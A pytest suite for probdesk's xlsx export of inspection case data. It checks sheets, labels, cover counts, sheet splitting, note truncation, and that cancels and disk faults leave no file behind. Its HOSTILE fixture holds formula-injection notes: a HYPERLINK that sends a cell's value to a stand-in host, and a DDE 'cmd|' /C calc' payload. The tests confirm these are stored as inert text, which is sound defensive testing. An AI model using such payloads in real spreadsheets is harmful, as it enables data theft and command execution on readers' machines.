"""The analysts' workbook (probdesk.services.workbook), read back with openpyxl: its sheets and
headers, a known case's row with labels and did-not-apply cells, notes that would be formulas
stored as text, the cover's counts, the figures as `summarise` has them, and a workbook that
appears whole or not at all (cancelled, a missing or read-only folder, a full disk)."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import fields
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import rawdb
from hubfill import fill_hub
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from scenes import AB, CD, Team, two_laptop_conflict

from probdesk.domain.records import CaseStatus
from probdesk.errors import EnvironmentProblem, InputError, OperationCancelled
from probdesk.hub.store import Hub
from probdesk.paths import Paths
from probdesk.services import figures, workbook
from probdesk.services import hub as hubs
from probdesk.services.fieldwork import Fieldwork
from probdesk.services.figures import SummaryRow
from probdesk.services.workspace import Workspace

SHEETS = ["Cover", "Cases", "Answers", "Codebook", "Figures"]
# Notes an assessor might type, or a hostile one might: each would start a formula.
HOSTILE = {
    "2.1.1": '=HYPERLINK("http://example.invalid/?q="&A1,"Click for the record")',
    "2.1.1.a": "+1 rang the PO",
    "2.1.2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "2.1.3": "-2+3 missed contacts",
}
NOTE = "Seen in the case record: café, Ynys Môn."


@pytest.fixture
def merged(team: Team, url: str) -> Iterator[tuple[Team, Hub]]:
    """The trust tests' team (AB: A1, A2; CD: C1, C2) after some fieldwork, merged: AB answers
    every question of A1 Yes with notes (some hostile), A1 is submitted and approved; CD answers
    one question of C1; A2 and C2 are not started."""
    ab = team.laptops[AB]
    a1 = team.case(AB, "A1")
    qs = ab.ws.question_set(ab.ws.inspection(team.inspection_id))
    state = ab.ws.case_state(a1)
    for q in qs.questions:
        if q.id in state.applicable and "yes" in (q.allowed_values() or ()):
            ab.ws.record_answer(a1, q.id, "yes", HOSTILE.get(q.id, NOTE if q.is_key else None))
    ab.ws.record_answer(a1, "2.2.3.b", "na")
    ab.ws.submit(a1)
    team.laptops[CD].ws.record_answer(team.case(CD, "C1"), "2.1.1", "no")
    team.export(AB)
    team.export(CD)
    team.merge(url)
    hub = rawdb.hub(url)
    hubs.moderate(hub, team.lead.fw, team.inspection_id, "A1", "approved", "")
    try:
        yield team, hub
    finally:
        hub.close()


def table(ws: Worksheet) -> list[list[Any]]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


def by_header(ws: Worksheet) -> list[dict[str, Any]]:
    header, *rows = table(ws)
    return [dict(zip(header, r, strict=True)) for r in rows]


def cover(ws: Worksheet) -> dict[str, Any]:
    return {str(a).strip(): b for a, b in ws.iter_rows(max_col=2, values_only=True) if a}


def test_the_workbook_holds_each_sheet_with_a_row_per_case_and_every_answer(
    merged: tuple[Team, Hub], tmp_path: Path
) -> None:
    team, hub = merged
    iid = team.inspection_id
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "book.xlsx"
    done = workbook.write_workbook(hub, iid, out, with_notes=True)
    assert (done.path, done.cases, done.sheets) == (out, 4, tuple(SHEETS))
    assert list(out.parent.iterdir()) == [out]  # no part file left beside it
    assert out.stat().st_mode & 0o777 == 0o600
    qs, _cases = figures.load_cases(hub, iid)
    book = load_workbook(out)  # not read-only: the cells' types and styles as stored
    assert book.sheetnames == SHEETS
    assert [book[s].freeze_panes for s in SHEETS] == [None, "B2", "A2", "A2", "A2"]

    # Cases: one row per case; facts with their labels; answers by label.
    cases = by_header(book["Cases"])
    header = list(cases[0])
    fixed = len(workbook.CASE_COLUMNS)
    assert header[:fixed] == list(workbook.CASE_COLUMNS)
    assert header[fixed : fixed + 2] == ["fact_sentence_type", "fact_sentence_type_label"]
    assert "fact_tier" in header and "fact_tier_label" not in header  # free text: no labels
    assert header[-len(qs.questions) :] == [q.id for q in qs.questions]
    assert [c["case_ref"] for c in cases] == ["A1", "A2", "C1", "C2"]
    a1 = cases[0]
    assert {k: a1[k] for k in workbook.CASE_COLUMNS} == {
        "case_ref": "A1", "region": "South West", "pdu": "Plymouth", "assessor": "AB",
        "assessor_role": "inspector", "status": "submitted", "counted": "yes",
        "moderation": "approved",
        "moderated_by": "TL", "variant": "standard", "variant_label": "Standard questions",
    }  # fmt: skip
    assert (a1["fact_rosh_level"], a1["fact_rosh_level_label"]) == ("high", "High")
    assert (a1["fact_domestic_abuse"], a1["fact_domestic_abuse_label"]) == ("yes", "Yes")
    assert (a1["fact_tier"], a1["fact_psr_prepared"]) == ("B2", None)  # not recorded: empty
    assert a1["2.1.1"] == "Yes" and a1["2.1.3.c"] == "Yes"  # domestic abuse: it applies
    assert a1["2.2.3.b"] == "Not applicable"
    assert a1["2.1.3.d"] == workbook.DID_NOT_APPLY  # no child safeguarding concern
    assert a1["2.3.3.d"] == workbook.DID_NOT_APPLY  # not MAPPA eligible
    assert a1["CW1"] == workbook.DID_NOT_APPLY  # no pre-sentence report recorded
    c1 = cases[2]
    assert c1["2.1.1"] == "No" and c1["2.1.2"] is None  # not answered: empty
    assert (c1["assessor"], c1["status"], c1["counted"]) == ("CD", "in_progress", "no")
    assert cases[1]["status"] == "not_started" and cases[1]["2.1.1"] is None

    # Answers: one row per case and question of its variant, the note with it.
    answers = by_header(book["Answers"])
    assert list(answers[0]) == [*workbook.ANSWER_COLUMNS, "note"]
    assert len(answers) == done.answers == 4 * len(qs.questions)
    got = {(r["case_ref"], r["question_id"]): r for r in answers}
    assert got[("A1", "2.1.1")] == {
        "case_ref": "A1", "pdu": "Plymouth", "question_id": "2.1.1", "answer": "yes",
        "answer_label": "Yes", "applicable": "yes", "note": HOSTILE["2.1.1"],
    }  # fmt: skip
    assert got[("A1", "2.1.3.d")]["applicable"] == "no"
    assert got[("A1", "2.1.3.d")]["answer"] is None
    assert got[("C1", "2.1.1")]["answer_label"] == "No"
    assert {r["note"] for r in answers if r["note"]} == {*HOSTILE.values(), NOTE}
    # Nothing is a formula: each hostile note is a string cell, with Excel's quote prefix.
    ws = book["Answers"]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
        note = row[6]
        if note.value in HOSTILE.values():
            assert note.data_type == "s" and note.quotePrefix, note.value
    for sheet in SHEETS:
        assert all(c.data_type != "f" for r in book[sheet].iter_rows() for c in r)

    # Codebook: each question with its codes and its condition in words.
    code = {r["id"]: r for r in by_header(book["Codebook"])}
    assert list(next(iter(code.values()))) == list(workbook.CODEBOOK_COLUMNS)
    q = qs.question("2.1.3.d")
    assert q.applies_when is not None
    assert code["2.1.3.d"]["applies_when"] == qs.describe(q.applies_when)
    assert code["2.1.3.d"]["kind"] == "prompt" and code["2.1.1"]["kind"] == "key question"
    assert code["2.1.3.d"]["text"] == q.text
    assert code["2.1.3.d"]["section"] == q.section_id
    assert code["2.2.3.b"]["codes"] == "yes=Yes; no=No; na=Not applicable"
    assert code["2.1.1"]["applies_when"] == "always"
    assert code["fact_rosh_level"]["kind"] == "case fact"
    assert code["fact_rosh_level"]["codes"] == (
        "low=Low; medium=Medium; high=High; very_high=Very high"
    )
    assert code["standard"]["kind"] == "variant"

    # Figures: summarise's rows by PDU, every field of SummaryRow, as they are.
    names = [f.name for f in fields(SummaryRow)]
    header, *rows = table(book["Figures"])
    expected = [[None if v == "" else v for v in (getattr(r, n) for n in names)]
                for r in figures.summarise(hub, iid, "pdu")]  # fmt: skip
    assert header == names and rows == expected and done.figures == len(rows) > 0

    # Cover: marking, inspection, question set, when, what is counted.
    seen = cover(book["Cover"])
    assert book["Cover"]["A1"].value == "OFFICIAL-SENSITIVE"
    assert seen["Inspection id"] == iid
    assert (seen["Question set id"], seen["Question set version"]) == (qs.id, qs.version)
    assert seen["PDUs"] == "Plymouth" and seen["Region"] == "South West"
    when = datetime.strptime(seen["Generated (UTC)"], "%Y-%m-%dT%H:%M:%SZ")
    assert abs((datetime.now(UTC).replace(tzinfo=None) - when).total_seconds()) < 600
    counted = " ".join(str(seen["What is counted"]).split())
    assert counted.startswith(
        "The Figures sheet counts the submitted, approved or locked cases: 1 of the 4, as the "
        'Hub tab, the reports and "probdesk summary" do; not counted yet: 2 not started, 1 in '
        "progress."
    ), counted
    assert seen["Counted in the figures"] == 1
    assert {s.label: seen[s.label] for s in CaseStatus} == {
        "Not started": 2, "In progress": 1, "Submitted": 1, "Returned": 0, "Approved": 0,
        "Locked": 0,
    }  # fmt: skip
    assert seen["Evidence notes"] == "included (the note column)"
    assert all(s in seen for s in ("Cases", "Answers", "Codebook", "Figures"))
    assert book["Cover"].HeaderFooter.oddHeader.center.text == "&BOFFICIAL-SENSITIVE"  # bold


def test_without_notes_there_is_no_note_column_and_the_marking_is_the_one_given(
    merged: tuple[Team, Hub], tmp_path: Path
) -> None:
    team, hub = merged
    out = workbook.write_workbook(
        hub, team.inspection_id, tmp_path / "b.xlsx", with_notes=False, marking=" OFFICIAL  "
    ).path
    book = load_workbook(out, read_only=True)
    try:
        assert next(book["Answers"].iter_rows(values_only=True)) == workbook.ANSWER_COLUMNS
        answers = list(book["Answers"].iter_rows(values_only=True))
        assert all(HOSTILE["2.1.1"] not in str(r) for r in answers)
        seen = cover(book["Cover"])
        assert seen["OFFICIAL"] is None  # the marking, tidied, first
        assert seen["Evidence notes"] == "not included"
    finally:
        book.close()


def test_the_cases_read_one_by_one_are_those_load_cases_gives_conflicts_settled(
    tmp_path: Path,
) -> None:
    root, iid = two_laptop_conflict(tmp_path / "scene")
    lead_paths = Paths.resolve(root / "lead")
    ws = Workspace.open(lead_paths)
    hub = rawdb.hub(f"sqlite:///{root / 'hub.sqlite'}")
    try:
        lead = Fieldwork(ws, lead_paths)
        hubs.merge(hub, lead, root / "shared")
        assert list(workbook.read_cases(hub, iid)) == figures.load_cases(hub, iid)[1]
        hubs.resolve_conflict(hub, lead, iid, "X100001", "C1", keep=2, both_notes=True)
        [settled] = workbook.read_cases(hub, iid)
        assert [settled] == figures.load_cases(hub, iid)[1]
        assert "seen on the second laptop" in settled.notes["C1"]
    finally:
        hub.close()
        ws.close()
    filled = Hub(f"sqlite:///{tmp_path / 'filled.sqlite'}")
    try:
        iid = fill_hub(filled, 30, ("Plymouth", "Ynys Môn"), notes=True,
                       question_set="dipp-public-protection.yaml")  # fmt: skip
        assert list(workbook.read_cases(filled, iid)) == figures.load_cases(filled, iid)[1]
    finally:
        filled.close()


def test_the_cases_read_a_batch_at_a_time_are_those_load_cases_gives_in_their_order(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub = Hub(f"sqlite:///{tmp_path / 'hub.sqlite'}")
    try:
        iid = fill_hub(hub, 30, ("Plymouth", "Ynys Môn"), notes=True)
        expected = figures.load_cases(hub, iid)[1]
        for batch in (1, 7, 30, 500):  # a case a query, a last batch part full, one batch
            monkeypatch.setattr(workbook, "READ_BATCH", batch)
            assert list(workbook.read_cases(hub, iid)) == expected, batch
        rows = workbook.case_rows(hub, iid)[::-1]  # the order asked for is kept
        got = list(workbook.read_cases(hub, iid, rows))
        assert [c.reference for c in got] == [r.reference for r in rows]
        assert got == expected[::-1]
    finally:
        hub.close()


def test_answers_past_a_sheets_rows_go_on_in_the_next_sheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "SHEET_ROWS", 101)  # 100 rows under the header
    hub = Hub(f"sqlite:///{tmp_path / 'hub.sqlite'}")
    try:
        iid = fill_hub(hub, 6, ("Plymouth",))  # pdu-core: 59 questions, 354 answers
        done = workbook.write_workbook(hub, iid, tmp_path / "b.xlsx", with_notes=False)
    finally:
        hub.close()
    names = ["Answers", "Answers 2", "Answers 3", "Answers 4"]
    assert done.sheets == ("Cover", "Cases", *names, "Codebook", "Figures")
    book = load_workbook(done.path, read_only=True)
    try:
        parts = [table(book[n]) for n in names]
        assert [len(p) for p in parts] == [101, 101, 101, 55]
        assert all(p[0] == list(workbook.ANSWER_COLUMNS) for p in parts)
        rows = [tuple(r[:3]) for p in parts for r in p[1:]]
        assert len(rows) == len(set(rows)) == done.answers == 354
        said = cover(book["Cover"])["Answers, Answers 2, Answers 3, Answers 4"]
        assert "split over 4 sheets: a sheet holds 100 rows under its header" in str(said)
    finally:
        book.close()


def test_a_note_longer_than_a_cell_holds_is_cut_and_says_so(tmp_path: Path) -> None:
    hub = Hub(f"sqlite:///{tmp_path / 'hub.sqlite'}")
    try:
        iid = fill_hub(hub, 1, ("Plymouth",))
        [case] = hub.cases_of(iid)
        with hub.transaction() as conn:
            hub.add_events(conn, [{
                "id": "long-note", "case_id": case.id, "question_id": "2.1.1",
                "value": '"no"', "note": "x" * 40_000, "device_id": "d", "seq": 999,
                "hlc": "9" * 20, "replaces": None, "qs_id": "pdu-core", "qs_version": "v",
                "recorded_at": "2026-11-05T10:00:00", "author": "AB",
            }])  # fmt: skip
        out = workbook.write_workbook(hub, iid, tmp_path / "b.xlsx", with_notes=True).path
    finally:
        hub.close()
    book = load_workbook(out, read_only=True)
    try:
        [note] = [r[6] for r in book["Answers"].iter_rows(values_only=True) if r[2] == "2.1.1"]
    finally:
        book.close()
    assert len(note) == workbook.CELL_TEXT and note.endswith(workbook.CUT)


# -- whole or not at all ---------------------------------------------------------------------


@pytest.mark.parametrize("at", ["first case", "a later case", "writing the file"])
def test_a_cancel_leaves_no_file_behind(
    merged: tuple[Team, Hub], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, at: str
) -> None:
    team, hub = merged
    monkeypatch.setattr(workbook, "CHECK_EVERY", 1)
    folder = tmp_path / "out"
    folder.mkdir()
    said: list[str] = []

    def cancelled() -> bool:
        if at == "first case":
            return bool(said)
        if at == "a later case":
            return any(w.startswith("Writing case 3") for w in said)
        return "Writing the workbook file" in said

    with pytest.raises(OperationCancelled):
        workbook.write_workbook(
            hub, team.inspection_id, folder / "b.xlsx", with_notes=True,
            progress=lambda _d, _t, what: said.append(what), cancelled=cancelled,
        )  # fmt: skip
    assert list(folder.iterdir()) == []  # no workbook, no hidden part file or folder


def test_a_folder_that_is_not_there_or_not_a_folder_is_refused_naming_it(
    merged: tuple[Team, Hub], tmp_path: Path
) -> None:
    team, hub = merged
    missing = tmp_path / "nowhere" / "b.xlsx"
    with pytest.raises(InputError, match=f"The folder {tmp_path / 'nowhere'} does not exist"):
        workbook.write_workbook(hub, team.inspection_id, missing, with_notes=False)
    (tmp_path / "a-file").write_text("")
    with pytest.raises(InputError, match=f"{tmp_path / 'a-file'} is not a folder"):
        workbook.write_workbook(hub, team.inspection_id, tmp_path / "a-file" / "b.xlsx",
                                with_notes=False)  # fmt: skip
    with pytest.raises(InputError, match=f"{tmp_path} is a folder"):
        workbook.write_workbook(hub, team.inspection_id, tmp_path, with_notes=False)
    with pytest.raises(InputError, match="holds no inspection nope"):
        workbook.write_workbook(hub, "nope", tmp_path / "b.xlsx", with_notes=False)
    assert not (tmp_path / "nowhere").exists() and not (tmp_path / "b.xlsx").exists()


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 3 MB tmpfs (Linux, root), as tests/integration/test_full_disk.py mounts one."""
    root = tmp_path / "small"
    root.mkdir()
    if sys.platform != "linux" or os.geteuid() != 0:
        pytest.skip("mounting a small tmpfs needs Linux and root")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(root)],
                          capture_output=True, text=True)  # fmt: skip
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    try:
        yield root
    finally:
        subprocess.run(["umount", "-l", str(root)], capture_output=True)


def test_a_read_only_folder_is_refused_before_any_work_and_a_full_disk_leaves_nothing(
    small_disk: Path, tmp_path: Path
) -> None:
    hub = Hub(f"sqlite:///{tmp_path / 'hub.sqlite'}")
    try:
        iid = fill_hub(hub, 30, ("Plymouth", "Ynys Môn"), notes=True)
        out = small_disk / "b.xlsx"
        subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
        with pytest.raises(EnvironmentProblem) as refused:
            workbook.write_workbook(hub, iid, out, with_notes=True)
        assert str(refused.value) == (
            f"Cannot write {out}: the disk holding {small_disk} is read-only. "
            "Nothing was written there."
        )
        subprocess.run(["mount", "-o", "remount,rw", str(small_disk)], check=True)
        with (small_disk / "filler").open("wb") as f:  # all but a few KB
            f.write(b"\0" * (3 * 1024 * 1024 - 64 * 1024))
        with pytest.raises(EnvironmentProblem) as full:
            workbook.write_workbook(hub, iid, out, with_notes=True)
        assert str(full.value).startswith(f"Cannot write {out}: ")
        assert "is full" in str(full.value) and "Nothing was written there." in str(full.value)
        assert sorted(p.name for p in small_disk.iterdir()) == ["filler"]
        (small_disk / "filler").unlink()
        assert workbook.write_workbook(hub, iid, out, with_notes=True).cases == 30
    finally:
        hub.close()
